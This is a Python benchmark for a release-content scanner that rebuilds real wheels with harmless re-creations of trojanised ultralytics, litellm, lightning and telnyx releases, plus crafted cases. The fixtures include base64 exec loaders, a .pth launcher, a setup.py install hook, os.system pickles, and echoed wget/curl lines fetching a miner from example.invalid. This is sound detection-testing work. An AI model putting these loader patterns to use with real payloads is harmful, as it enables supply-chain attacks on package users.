"""What release content screening catches, how often it cries wolf, and what it costs (issue 13).

Three parts, one command:

(a) Detection.  Harmless re-creations of the trojanised releases listed in
    the issue, each built from the REAL previous wheel of the project (the
    benchmark downloads it), plus crafted small cases.  Every payload only
    prints, and nothing here ever imports, installs or runs them.  A case is
    caught when the scan yields a high or critical finding naming the file
    that carries the payload.
(b) False alarms.  Consecutive release pairs of popular ML/data projects
    from the public index (the one pip is configured with), scanned as an
    upgrade: previous inventory in, findings out.  Goal: no high/critical
    finding, at most 2% of pairs with a medium one.
(c) Cost.  Scan time per release (p50/p95, one core), rule compile time
    and memory (fresh interpreter), peak memory of the scanning process,
    the machine's load average.
(d) Speed on big real wheels (the first files a cold ML install asks
    for): a first-release scan of each, against the time merely to read
    and decompress its members (the baseline, same run), in MiB/s; and the
    import-time check cut to module-level code against parsing whole files
    (before/after in the same run, results compared file by file).  The
    wheels come from the public index (pip's own default, not the
    configured one) and are cached; without it this part is skipped.

Downloads are cached outside the repository, under
``~/.cache/indexguard-bench`` (``--cache DIR``); files over 60 MB are
skipped.  When the index cannot be reached, the parts that need it are
skipped and say so.

Run: python -m benchmarks.content [--quick] [--speed-only] [--cache DIR] [--fetch-only]
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import re
import resource
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path

from packaging.utils import canonicalize_name, parse_wheel_filename
from packaging.version import InvalidVersion, Version

MAX_DOWNLOAD = 60 * 1024 * 1024
MIB = 1024 * 1024
DEFAULT_CACHE = Path.home() / ".cache" / "indexguard-bench"

# Popular ML/data projects; two consecutive pairs of each (latest three releases).
FALSE_ALARM_PROJECTS = (
    "requests", "urllib3", "numpy", "pandas", "scikit-learn", "huggingface-hub",
    "transformers", "langchain", "langchain-core", "litellm", "ultralytics", "lightning",
    "torchmetrics", "datasets", "accelerate", "tokenizers", "safetensors", "matplotlib",
    "openai", "pydantic", "joblib", "statsmodels", "gensim", "sentence-transformers",
    "peft", "timm", "pillow", "tqdm", "networkx", "mlflow-skinny", "boto3", "fsspec",
)
PAIRS_PER_PROJECT = 2


# -- downloads ---------------------------------------------------------------------


def _pip(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """pip of this interpreter, with the index from pip's own configuration."""
    return subprocess.run(
        [sys.executable, "-m", "pip", *args], capture_output=True, text=True, timeout=timeout, check=False
    )


def index_reachable() -> bool:
    try:
        done = _pip("index", "versions", "requests", timeout=60)
    except subprocess.TimeoutExpired:
        return False
    return done.returncode == 0 and "Available versions" in done.stdout


def recent_versions(project: str, count: int) -> list[str]:
    """The newest ``count`` final releases, newest first (consecutive on the index)."""
    done = _pip("index", "versions", project, timeout=120)
    match = re.search(r"Available versions: (.*)", done.stdout)
    if done.returncode != 0 or not match:
        return []
    versions: list[str] = []
    for text in match.group(1).split(","):
        try:
            parsed = Version(text.strip())
        except InvalidVersion:
            continue
        if not parsed.is_prerelease and not parsed.is_devrelease:
            versions.append(text.strip())
    return versions[:count]


def download_wheel(project: str, version: str, cache: Path) -> Path | None:
    """The cached wheel of ``project==version`` for this machine, downloading it once."""
    target = cache / "wheels" / canonicalize_name(project) / version
    found = sorted(target.glob("*.whl")) if target.exists() else []
    if found:
        return found[0]
    if (target / "SKIPPED").exists():
        return None
    target.mkdir(parents=True, exist_ok=True)
    done = _pip(
        "download", "--no-deps", "--only-binary", ":all:", "-q", "-d", str(target), f"{project}=={version}",
        timeout=900,
    )
    found = sorted(target.glob("*.whl"))
    if done.returncode != 0 or not found:
        (target / "SKIPPED").write_text(done.stderr[-2000:] or "no wheel")
        return None
    if found[0].stat().st_size > MAX_DOWNLOAD:
        found[0].unlink()
        (target / "SKIPPED").write_text("larger than 60 MB")
        return None
    return found[0]


def fetch_pairs(cache: Path, projects: Sequence[str], per_project: int) -> list[tuple[Path, Path]]:
    """(previous, next) wheel pairs of consecutive releases, oldest pair first per project."""
    pairs: list[tuple[Path, Path]] = []
    for project in projects:
        versions = recent_versions(project, per_project + 1)
        wheels = [download_wheel(project, v, cache) for v in reversed(versions)]
        for older, newer in zip(wheels, wheels[1:], strict=False):
            if older is not None and newer is not None:
                pairs.append((older, newer))
    return pairs


# -- re-creations (harmless: every payload only prints; nothing here runs them) -------


PRINT_B64 = "cHJpbnQoImhhcm1sZXNzIHJlLWNyZWF0aW9uIHBheWxvYWQiKQ=="  # print("harmless re-creation payload")


def _record_line(path: str, data: bytes) -> str:
    import base64

    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def rebuild_wheel(
    source: Path, dest: Path, version: str, changes: dict[str, bytes | Callable[[bytes], bytes]],
) -> Path:
    """A copy of the real wheel ``source`` as ``version``, with members added or edited, RECORD rewritten.

    ``changes`` maps a member path to new bytes, or to a function of the old bytes.
    """
    name, old_version, _build, tags = parse_wheel_filename(source.name)
    old_stem = source.name.split("-")[0]
    tag = source.name[:-4].split("-", 2)[2]
    members: dict[str, bytes] = {}
    with zipfile.ZipFile(source) as archive:
        for info in archive.infolist():
            if not info.is_dir():
                members[info.filename] = archive.read(info)
    renamed: dict[str, bytes] = {}
    old_dist = f"{old_stem}-{old_version}.dist-info"
    new_dist = f"{old_stem}-{version}.dist-info"
    for path, data in members.items():
        if path.startswith(old_dist + "/"):
            path = new_dist + path[len(old_dist):]
            if path.endswith("/METADATA"):
                data = re.sub(rb"(?m)^Version: .*$", f"Version: {version}".encode(), data, count=1)
        renamed[path] = data
    for path, change in changes.items():
        renamed[path] = change(renamed.get(path, b"")) if callable(change) else change
    record_path = f"{new_dist}/RECORD"
    lines = [_record_line(p, d) for p, d in renamed.items() if p != record_path] + [f"{record_path},,"]
    renamed[record_path] = ("\n".join(lines) + "\n").encode()
    dest.mkdir(parents=True, exist_ok=True)
    target = dest / f"{old_stem}-{version}-{tag}.whl"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in renamed.items():
            archive.writestr(path, data)
    return target


def _append(text: bytes) -> Callable[[bytes], bytes]:
    return lambda old: old + b"\n" + text


ULTRALYTICS_SAFE_RUN = b'''
def safe_run(path):
    """Harmless re-creation of the 8.3.41 payload: the command only prints."""
    import os, subprocess
    os.chmod(path, 0o755)
    wallet = "4" + "A" * 94
    pool = "stratum+tcp://pool.supportxmr.com:443"
    subprocess.Popen([sys.executable, "-c", "print('harmless', %r, %r)" % (wallet, pool)],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

def _fetch_and_run():
    dest = "/tmp/ultralytics_runner"
    safe_run(dest)
'''
ULTRALYTICS_MODEL = b'''
def _harmless_blob_runner():
    import urllib.request, subprocess, os
    path, _ = urllib.request.urlretrieve("https://example.invalid/blob", "/tmp/blob")
    os.chmod(path, 0o755)
    subprocess.Popen([sys.executable, "-c", "print('harmless')"], stdout=subprocess.DEVNULL)
'''
ULTRALYTICS_45 = b'''
import os as _os
_os.system("echo 'harmless: wget -q https://example.invalid/xmrig -O /tmp/xmrig && chmod +x /tmp/xmrig && nohup /tmp/xmrig -o pool.supportxmr.com:443 &'")
'''
LITELLM_STAGE = b'\nimport base64 as _b64\nexec(_b64.b64decode("' + PRINT_B64.encode() + b'"))\n'
LITELLM_PTH = (
    b'import os, base64, subprocess; exec(base64.b64decode("' + PRINT_B64.encode() + b'"))\n'
)
LIGHTNING_INIT = b'''
import os as _os, subprocess as _sp, sys as _sys, threading as _th
def _start_runtime():
    _sp.Popen([_sys.executable, _os.path.join(_os.path.dirname(__file__), "_runtime", "start.py")],
              stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=True)
_th.Thread(target=_start_runtime, daemon=True).start()
'''
LIGHTNING_START = b'''"""Harmless re-creation: would fetch a runtime and run a bundled script; only prints."""
import os, subprocess, sys, urllib.request
def main():
    bun = os.path.join(os.path.expanduser("~"), ".cache", "bun")
    urllib.request.urlretrieve("https://example.invalid/bun-linux-x64.zip", bun)
    os.chmod(bun, 0o755)
    subprocess.run([sys.executable, "-c", "print('harmless')"], stdout=subprocess.DEVNULL)
print("harmless re-creation: main() is never called")
'''


def _obfuscated_js(size: int) -> bytes:
    parts = [b"var _0x4f2a=['log','harmless','push','shift'];(function(_0x1b2c,_0x3d4e){var _0x5f6a=function(_0x7b8c){"
             b"while(--_0x7b8c){_0x1b2c['push'](_0x1b2c['shift']());}};_0x5f6a(++_0x3d4e);}(_0x4f2a,0x1a3));"]
    i = 0
    while sum(map(len, parts)) < size:
        parts.append(b"function _0x%04x(_0x%04x){return _0x4f2a[_0x%04x%%4];}" % (i % 0xFFFF, (i * 7) % 0xFFFF, (i * 13) % 0xFFFF))
        i += 1
    parts.append(b"console[_0x4f2a[0]](_0x4f2a[1]);")
    return b"".join(parts)


def _wav_with_payload() -> bytes:
    import struct
    import wave

    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(struct.pack("<800h", *([0, 1000, 0, -1000] * 200)))
    return out.getvalue() + (b"print('harmless payload hidden after the audio')\n" * 200)


TELNYX_LOADER = b'''
def _play_ring():
    import base64, os
    with open(os.path.join(os.path.dirname(__file__), "ring.wav"), "rb") as f:
        tail = f.read()[3244:]
    exec(base64.b64decode(tail))
'''

FAKE_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 4000


@dataclass(frozen=True)
class Case:
    name: str
    previous: Path | None  # the approved release the trojan is diffed against (None: a first release)
    trojan: Path
    payload_file: str  # the file a reviewer must be pointed at


def build_cases(cache: Path, work: Path) -> tuple[list[Case], list[str]]:
    """Re-creations from the real previous wheels, plus crafted small cases; returns (cases, skipped)."""
    cases: list[Case] = []
    skipped: list[str] = []

    def real(project: str, version: str) -> Path | None:
        wheel = download_wheel(project, version, cache)
        if wheel is None:
            skipped.append(f"{project}=={version} (not downloadable)")
        return wheel

    if (base := real("ultralytics", "8.3.40")) is not None:
        cases.append(Case("ultralytics 8.3.41 (safe_run, miner, valid attestation)", base, rebuild_wheel(
            base, work / "u41", "8.3.41", {
                "ultralytics/utils/downloads.py": _append(ULTRALYTICS_SAFE_RUN),
                "ultralytics/models/yolo/model.py": _append(ULTRALYTICS_MODEL),
            }), "ultralytics/utils/downloads.py"))
        cases.append(Case("ultralytics 8.3.45 (os.system wget xmrig at import)", base, rebuild_wheel(
            base, work / "u45", "8.3.45", {"ultralytics/__init__.py": _append(ULTRALYTICS_45)}),
            "ultralytics/__init__.py"))
    if (base := real("litellm", "1.82.6")) is not None:
        cases.append(Case("litellm 1.82.7 (base64 stage in proxy_server.py)", base, rebuild_wheel(
            base, work / "l7", "1.82.7", {"litellm/proxy/proxy_server.py": _append(LITELLM_STAGE)}),
            "litellm/proxy/proxy_server.py"))
        cases.append(Case("litellm 1.82.8 (litellm_init.pth at wheel root)", base, rebuild_wheel(
            base, work / "l8", "1.82.8", {"litellm/proxy/proxy_server.py": _append(LITELLM_STAGE),
                                          "litellm_init.pth": LITELLM_PTH}), "litellm_init.pth"))
    if (base := real("lightning", "2.6.1")) is not None:
        cases.append(Case("lightning 2.6.3 (thread -> _runtime/start.py, obfuscated JS)", base, rebuild_wheel(
            base, work / "lt", "2.6.3", {
                "lightning/__init__.py": _append(LIGHTNING_INIT),
                "lightning/_runtime/start.py": LIGHTNING_START,
                "lightning/_runtime/router_runtime.js": _obfuscated_js(2 << 20),
            }), "lightning/_runtime/start.py"))
    if (base := real("telnyx", "4.87.0")) is not None:
        cases.append(Case("telnyx 4.87.2 (payload appended to a WAV)", base, rebuild_wheel(
            base, work / "tx", "4.87.2", {"telnyx/ring.wav": _wav_with_payload(),
                                          "telnyx/_audio.py": TELNYX_LOADER}), "telnyx/ring.wav"))
    cases += crafted_cases(work / "crafted")
    return cases, skipped


def _crafted_wheel(work: Path, name: str, version: str, files: dict[str, bytes], tag: str = "py3-none-any") -> Path:
    """A small wheel written directly (no build backend), RECORD included."""
    dist = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode()
    members[f"{dist}/WHEEL"] = f"Wheel-Version: 1.0\nGenerator: bench\nRoot-Is-Purelib: false\nTag: {tag}\n".encode()
    record = f"{dist}/RECORD"
    members[record] = ("\n".join([_record_line(p, d) for p, d in members.items()] + [f"{record},,"]) + "\n").encode()
    work.mkdir(parents=True, exist_ok=True)
    target = work / f"{name}-{version}-{tag}.whl"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in members.items():
            archive.writestr(path, data)
    return target


def _crafted_sdist(work: Path, name: str, version: str, files: dict[str, bytes]) -> Path:
    import tarfile

    root = f"{name}-{version}"
    members = {f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode()}
    members.update({f"{root}/{p}": d for p, d in files.items()})
    work.mkdir(parents=True, exist_ok=True)
    target = work / f"{root}.tar.gz"
    with tarfile.open(target, "w:gz") as archive:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return target


class _Reduce:
    """Pickles to os.system("echo harmless"); the benchmark only reads its opcodes."""

    def __reduce__(self):  # noqa: D105
        return (os.system, ("echo harmless",))


def crafted_cases(work: Path) -> list[Case]:
    import bz2
    import pickle

    clean = {"demo/__init__.py": b"VALUE = 1\n"}
    tag = "cp311-cp311-manylinux_2_17_x86_64"
    evil_pickle = pickle.dumps(_Reduce(), protocol=2)
    torch_zip = io.BytesIO()
    with zipfile.ZipFile(torch_zip, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({"w": [1.0]}, protocol=2)[:-6])
        archive.writestr("archive/version", "3\n")
    setup_hook = (b"import base64\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
                  b"class I(install):\n    def run(self):\n        exec(base64.b64decode('" + PRINT_B64.encode() +
                  b"'))\n        install.run(self)\nsetup(name='demo', version='1.1', cmdclass={'install': I})\n")
    return [
        Case("crafted: .pth launcher", _crafted_wheel(work / "a", "demo", "1.0", clean),
             _crafted_wheel(work / "b", "demo", "1.1", {**clean, "demo_boot.pth": LITELLM_PTH}), "demo_boot.pth"),
        Case("crafted: import-time os.system", _crafted_wheel(work / "a", "demo", "1.0", clean),
             _crafted_wheel(work / "c", "demo", "1.1", {"demo/__init__.py": b"import os\nos.system(\"echo 'harmless: curl -s https://example.invalid/x -o /tmp/x && chmod +x /tmp/x'\")\n"}),
             "demo/__init__.py"),
        Case("crafted: setup.py install hook exec(base64)", _crafted_sdist(work / "a", "demo", "1.0", {"setup.py": b"from setuptools import setup\nsetup()\n"}),
             _crafted_sdist(work / "d", "demo", "1.1", {"setup.py": setup_hook}), "demo-1.1/setup.py"),
        Case("crafted: pickle whose reduce calls os.system", _crafted_wheel(work / "a", "demo", "1.0", clean),
             _crafted_wheel(work / "e", "demo", "1.1", {**clean, "demo/weights.bin": evil_pickle}), "demo/weights.bin"),
        Case("crafted: broken pickle stream (nullifAI)", _crafted_wheel(work / "a", "demo", "1.0", clean),
             _crafted_wheel(work / "f", "demo", "1.1", {**clean, "demo/model.pt": torch_zip.getvalue()}), "demo/model.pt"),
        Case("crafted: model in an unusual wrapper (bz2 pickle)", _crafted_wheel(work / "a", "demo", "1.0", clean),
             _crafted_wheel(work / "g", "demo", "1.1", {**clean, "demo/model.ckpt": bz2.compress(evil_pickle)}), "demo/model.ckpt"),
        Case("torchtriton (first release: bundled ELF run on import)", None, _crafted_wheel(
            work / "t", "torchtriton", "2.0.0", {
                "triton/__init__.py": b"import os, subprocess\n_b = os.path.join(os.path.dirname(__file__), 'runtime', 'triton')\nsubprocess.Popen([_b], stdout=subprocess.DEVNULL)\n",
                "triton/runtime/triton": FAKE_ELF,
                "triton/_C/libtriton.so": FAKE_ELF,
            }, tag), "triton/__init__.py"),
    ]


# -- measuring -----------------------------------------------------------------------


def _scan(path: Path, previous: dict | None, rules):  # noqa: ANN001, ANN202
    from mirror.content import Artifact, scan_release

    return scan_release([Artifact(path.name, path, provenance_known=False)], previous, rules=rules)


def run_detection(cases: Sequence[Case], rules) -> list[dict]:  # noqa: ANN001
    rows = []
    for case in cases:
        baseline = _scan(case.previous, None, rules).inventory if case.previous else None
        report = _scan(case.trojan, baseline, rules)
        serious = [f for f in report.findings if f.severity >= 3]
        files = {str(f.evidence.get("file")) for f in serious}
        rows.append({
            "case": case.name,
            "caught": bool(serious),
            "names_file": case.payload_file in files,
            "worst": str(max((f.severity for f in report.findings), default="none")),
            "findings": sorted({f"{f.severity}:{f.detector}@{f.evidence.get('file')}" for f in serious})[:8],
        })
    return rows


def run_false_alarms(pairs: Sequence[tuple[Path, Path]], rules) -> tuple[list[dict], list[float], list[float]]:  # noqa: ANN001
    rows: list[dict] = []
    first_times: list[float] = []
    upgrade_times: list[float] = []
    for older, newer in pairs:
        began = time.process_time()
        base = _scan(older, None, rules)
        first_times.append(time.process_time() - began)
        began = time.process_time()
        report = _scan(newer, base.inventory, rules)
        upgrade_times.append(time.process_time() - began)
        rows.append({
            "pair": f"{older.name.split('-')[0]} {older.name.split('-')[1]} -> {newer.name.split('-')[1]}",
            "size_mb": round(newer.stat().st_size / 1e6, 1),
            "high": [f"{f.detector}@{f.evidence.get('file')}" for f in report.findings if f.severity >= 3],
            "medium": [f"{f.detector}@{f.evidence.get('file')}" for f in report.findings if f.severity == 2],
            "first_release_high": sum(1 for f in base.findings if f.severity >= 3),
            "seconds": upgrade_times[-1],
            "files_scanned": sum(a.files_scanned for a in report.artifacts),
            "files_reused": sum(a.files_reused for a in report.artifacts),
        })
    return rows, first_times, upgrade_times


def compare_pickle_libraries(wheels: Iterable[Path]) -> dict[str, int]:
    """Real pickles of the downloaded wheels: how many each library would flag (all are benign test data)."""
    import picklescan.scanner as picklescan
    from mirror.content.pickles import DEFAULT_ALLOW, find_pickles

    counts = {"pickles": 0, "picklescan_flagged": 0, "fickling_flagged": 0, "ours_flagged": 0}
    try:
        from fickling.analysis import Severity as FSeverity
        from fickling.analysis import check_safety
        from fickling.fickle import Pickled
    except ImportError:  # pragma: no cover - fickling is optional for the benchmark
        check_safety = None
    import logging

    logging.getLogger("picklescan").setLevel(logging.CRITICAL)  # benchmark process only
    for wheel in wheels:
        with zipfile.ZipFile(wheel) as archive:
            for info in archive.infolist():
                if info.file_size > 8 << 20 or info.is_dir():
                    continue
                data = archive.read(info)
                reports = find_pickles(data, allow=DEFAULT_ALLOW, max_pickle_bytes=8 << 20, max_nested_bytes=8 << 20)
                raw = [r for r in reports if r.location == ""]
                if not raw:
                    continue
                counts["pickles"] += 1
                if any(r.dangerous or r.unlisted or not r.complete for r in raw):
                    counts["ours_flagged"] += 1
                scan = picklescan.scan_pickle_bytes(io.BytesIO(data), info.filename)
                if scan.issues_count or scan.scan_err:
                    counts["picklescan_flagged"] += 1
                if check_safety is not None:
                    try:
                        verdict = check_safety(Pickled.load(data)).severity
                        flagged = verdict > FSeverity.LIKELY_SAFE
                    except Exception:
                        flagged = True
                    counts["fickling_flagged"] += int(flagged)
    return counts


def _pct(values: Sequence[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(round(q * (len(ordered) - 1))))]


def rules_cost() -> dict[str, float]:
    """The first scan's set-up in a fresh interpreter: seconds, RSS and traced Python memory it adds.

    That is loading yara-x and compiling the rules, both deferred to the
    first scan, so a process that never scans never pays them.
    """
    code = (
        "import json, time, tracemalloc\n"
        "from mirror.content.rules import load_rules\n"
        "def rss():\n"
        "    return int(open('/proc/self/statm').read().split()[1]) * 4096 / 2**20\n"
        "rules = load_rules(); lazy = not rules.compiled; before = rss(); tracemalloc.start()\n"
        "t = time.perf_counter(); rules.rules; seconds = time.perf_counter() - t\n"
        "print(json.dumps({'seconds': seconds, 'rss_mib': rss() - before, 'lazy': lazy,\n"
        "                  'traced_mib': tracemalloc.get_traced_memory()[1] / 2**20}))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                          cwd=Path(__file__).resolve().parents[1])
    return json.loads(done.stdout.strip().splitlines()[-1])


# -- speed on big real wheels --------------------------------------------------------

# What a cold ML install fetches first and biggest: native wheels (numpy, pandas, pillow, two Rust
# extensions) and a large pure-Python one.  Never tuned on: the figures are what they are.
SPEED_PROJECTS = ("numpy", "pandas", "pydantic-core", "tokenizers", "pillow", "transformers")
SPEED_ROUNDS = 3


def public_index() -> str:
    """The public index's simple URL, from pip (its host name is never written in this repository)."""
    from pip._internal.models.index import PyPI

    return PyPI.simple_url


def public_index_reachable() -> bool:
    import urllib.request

    try:
        with urllib.request.urlopen(public_index().rstrip("/") + "/pip/", timeout=20) as response:
            return response.status == 200
    except OSError:
        return False


def latest_wheel(project: str, cache: Path) -> Path | None:
    """This machine's wheel of ``project`` from the public index, downloaded once into the cache."""
    target = cache / "speed" / canonicalize_name(project)
    found = sorted(target.glob("*.whl")) if target.exists() else []
    if found:
        return found[-1]
    target.mkdir(parents=True, exist_ok=True)
    done = _pip("download", "--no-deps", "--only-binary", ":all:", "-q", "--isolated", "--index-url", public_index(),
                "-d", str(target), project, timeout=900)
    found = sorted(target.glob("*.whl"))
    return found[-1] if done.returncode == 0 and found else None


def _best_of(rounds: int, work: Callable[[], object]) -> float:
    best = float("inf")
    for _ in range(rounds):
        began = time.perf_counter()
        work()
        best = min(best, time.perf_counter() - began)
    return best


def _read_all(path: Path) -> int:
    """The baseline: read and decompress every member once (what any look inside costs at least)."""
    total = 0
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            if not info.is_dir():
                total += len(archive.read(info))
    return total


def _import_time_check(path: Path, rules, rounds: int) -> dict:  # noqa: ANN001
    """The import-time check on the modules the scan gives it: cut to module level vs whole-file parse."""
    from mirror.content.hooks import import_time_behaviours

    modules: list[tuple[str, bytes]] = []
    with zipfile.ZipFile(path) as archive:
        for info in archive.infolist():
            if info.filename.endswith(".py") and not info.is_dir():
                data = archive.read(info)
                if "process-call" in {b.behaviour for b in rules.scan(info.filename, data, len(data) + 1)}:
                    modules.append((info.filename, data))

    def run(whole: bool) -> list[list[dict]]:
        return [[b.to_dict() for b in import_time_behaviours(p, d, whole_file=whole)] for p, d in modules]

    same = run(False) == run(True)
    return {
        "modules": len(modules), "identical": same,
        "cut_s": _best_of(rounds, lambda: run(False)), "whole_s": _best_of(rounds, lambda: run(True)),
    }


def run_speed(wheels: Sequence[Path], rules, rounds: int = SPEED_ROUNDS) -> list[dict]:  # noqa: ANN001
    """Per wheel: a first-release scan (as a cold mirror does it) against merely reading the archive."""
    from mirror.content import Artifact, scan_release

    rows = []
    for path in wheels:
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        unpacked = _read_all(path)
        artifact = Artifact(path.name, path, sha256=sha, provenance_known=False)
        report = scan_release([artifact], None, rules=rules)
        read_s = _best_of(rounds, lambda p=path: _read_all(p))
        scan_s = _best_of(rounds, lambda a=artifact: scan_release([a], None, rules=rules))
        tracemalloc.start()
        scan_release([artifact], None, rules=rules)
        traced_peak = tracemalloc.get_traced_memory()[1] / MIB
        tracemalloc.stop()
        rows.append({
            "wheel": path.name, "mib": path.stat().st_size / MIB, "unpacked_mib": unpacked / MIB,
            "members": sum(a.files_scanned for a in report.artifacts), "complete": report.complete,
            "findings": len(report.findings), "read_s": read_s, "scan_s": scan_s, "traced_peak_mib": traced_peak,
            "import_time": _import_time_check(path, rules, rounds),
        })
    return rows


def print_speed(rows: Sequence[dict]) -> None:
    print(f"\n== scan speed on big real wheels (first-release scan, best of {SPEED_ROUNDS}, one core) ==")
    print(f"  {'wheel':44} {'MiB':>5} {'unpacked':>8} {'read s':>7} {'scan s':>7} {'MiB/s':>6} {'scan/read':>9}"
          "   import-time check: cut / whole-file parse")
    for r in rows:
        it = r["import_time"]
        print(f"  {r['wheel'][:44]:44} {r['mib']:5.1f} {r['unpacked_mib']:8.1f} {r['read_s']:7.2f} {r['scan_s']:7.2f} "
              f"{r['unpacked_mib'] / r['scan_s']:6.0f} {r['scan_s'] / r['read_s']:8.1f}x   "
              f"{it['modules']:4d} modules {it['cut_s']:.2f} s / {it['whole_s']:.2f} s"
              f" ({it['cut_s'] / it['whole_s'] if it['whole_s'] else 0:.2f}x, "
              + ("identical)" if it["identical"] else "DIFFERENT)"))
    scan_total = sum(r["scan_s"] for r in rows)
    read_total = sum(r["read_s"] for r in rows)
    print(f"  total: scan {scan_total:.2f} s, read {read_total:.2f} s ({scan_total / read_total:.1f}x), "
          f"{sum(r['unpacked_mib'] for r in rows) / scan_total:.0f} MiB/s unpacked")
    biggest = max(rows, key=lambda r: r["traced_peak_mib"])
    print(f"  peak Python memory of one scan (tracemalloc): {biggest['traced_peak_mib']:.1f} MiB ({biggest['wheel'][:40]}; "
          "one member is held at a time, with the growing inventory)")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--cache", type=Path, default=DEFAULT_CACHE)
    parser.add_argument("--quick", action="store_true", help="one pair per project, no pickle comparison")
    parser.add_argument("--fetch-only", action="store_true")
    parser.add_argument("--speed-only", action="store_true", help="only (d), the scan speed on big real wheels")
    parser.add_argument("--json", type=Path, help="also write the raw results here")
    args = parser.parse_args(argv)

    try:  # one core, as the issue asks
        os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})
    except (AttributeError, OSError):
        pass
    if args.speed_only:
        return speed_main(args.cache, args.json)
    reachable = index_reachable()
    if not reachable:
        print("index unreachable: detection of the re-creations and the false-alarm pairs are SKIPPED")
    per_project = 1 if args.quick else PAIRS_PER_PROJECT
    if args.fetch_only:
        if reachable:
            build_cases(args.cache, args.cache / "cases")
            print(len(fetch_pairs(args.cache, FALSE_ALARM_PROJECTS, per_project)), "pairs cached")
        return 0

    from mirror.content import default_rules

    compile_cost = rules_cost()
    began = time.perf_counter()
    rules = default_rules()
    rules.rules  # noqa: B018 - compiled on first scan; compile it here to time it
    compile_in_process = time.perf_counter() - began
    results: dict = {"ruleset": rules.version, "rules_cost": compile_cost}

    import tempfile

    with tempfile.TemporaryDirectory(prefix="indexguard-bench-") as tmp:
        if reachable:
            cases, skipped = build_cases(args.cache, Path(tmp))
        else:
            cases, skipped = crafted_cases(Path(tmp) / "crafted"), ["all real-wheel re-creations (no index)"]
        detection = run_detection(cases, rules)
    results["detection"] = detection
    print(f"\n== detection ({rules.version}) ==")
    for row in detection:
        mark = "CAUGHT" if row["caught"] and row["names_file"] else ("caught (other file)" if row["caught"] else "MISSED")
        print(f"  {mark:20} worst={row['worst']:8} {row['case']}")
        for item in row["findings"][:4]:
            print(f"      {item}")
    for item in skipped:
        print(f"  skipped: {item}")

    ok = all(r["caught"] and r["names_file"] for r in detection)
    if reachable:
        pairs = fetch_pairs(args.cache, FALSE_ALARM_PROJECTS, per_project)
        rows, first_times, upgrade_times = run_false_alarms(pairs, rules)
        results["false_alarms"] = rows
        high = [r for r in rows if r["high"]]
        medium = [r for r in rows if r["medium"] and not r["high"]]
        print(f"\n== false alarms: {len(rows)} consecutive release pairs (upgrade scan vs previous inventory) ==")
        for row in rows:
            flag = "HIGH" if row["high"] else ("medium" if row["medium"] else "ok")
            print(f"  {flag:6} {row['pair']:40} {row['size_mb']:6.1f} MB {row['seconds']:6.2f} s "
                  f"scanned {row['files_scanned']}/{row['files_scanned'] + row['files_reused']} files "
                  + " ".join(row["high"][:2] + row["medium"][:2]))
        print(f"  pairs with a high/critical finding: {len(high)} (goal 0)")
        print(f"  pairs with a medium finding: {len(medium)} = {100 * len(medium) / max(1, len(rows)):.1f}% (goal <= 2%)")
        print(f"  (first releases judged alone: {sum(1 for r in rows if r['first_release_high'])} of {len(rows)} "
              "have a high finding, mostly shipped test pickles)")
        ok = ok and not high and len(medium) <= 0.02 * len(rows)
        print("\n== cost (CPU seconds, one core) ==")
        print(f"  upgrade scan per release: p50 {_pct(upgrade_times, .5):.2f} s  p95 {_pct(upgrade_times, .95):.2f} s"
              f"  max {max(upgrade_times):.2f} s (goal p95 <= 3 s)")
        print(f"  first-release scan:       p50 {_pct(first_times, .5):.2f} s  p95 {_pct(first_times, .95):.2f} s"
              f"  max {max(first_times):.2f} s")
        results["cost"] = {"upgrade_p50": _pct(upgrade_times, .5), "upgrade_p95": _pct(upgrade_times, .95),
                           "first_p50": _pct(first_times, .5), "first_p95": _pct(first_times, .95)}
        if not args.quick:
            counts = compare_pickle_libraries(p for pair in pairs for p in pair)
            results["pickle_libraries"] = counts
            print(f"\n== pickle libraries on {counts['pickles']} real (benign) pickles in these wheels ==")
            print(f"  flagged: ours (picklescan walk + our allow list) {counts['ours_flagged']}, "
                  f"picklescan alone {counts['picklescan_flagged']}, fickling {counts['fickling_flagged']}")
    else:
        print("\nfalse-alarm pairs: SKIPPED (index unreachable)")
    if public_index_reachable():
        wheels = [w for w in (latest_wheel(p, args.cache) for p in SPEED_PROJECTS) if w is not None]
        results["speed"] = run_speed(wheels, rules)
        print_speed(results["speed"])
        ok = ok and all(r["import_time"]["identical"] for r in results["speed"])
    else:
        print("\nscan speed on big real wheels: SKIPPED (public index unreachable)")
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"\n  rule compile: {compile_cost['seconds'] * 1000:.0f} ms (fresh interpreter), "
          f"{compile_in_process * 1000:.0f} ms here; it adds {compile_cost['rss_mib']:.1f} MiB RSS "
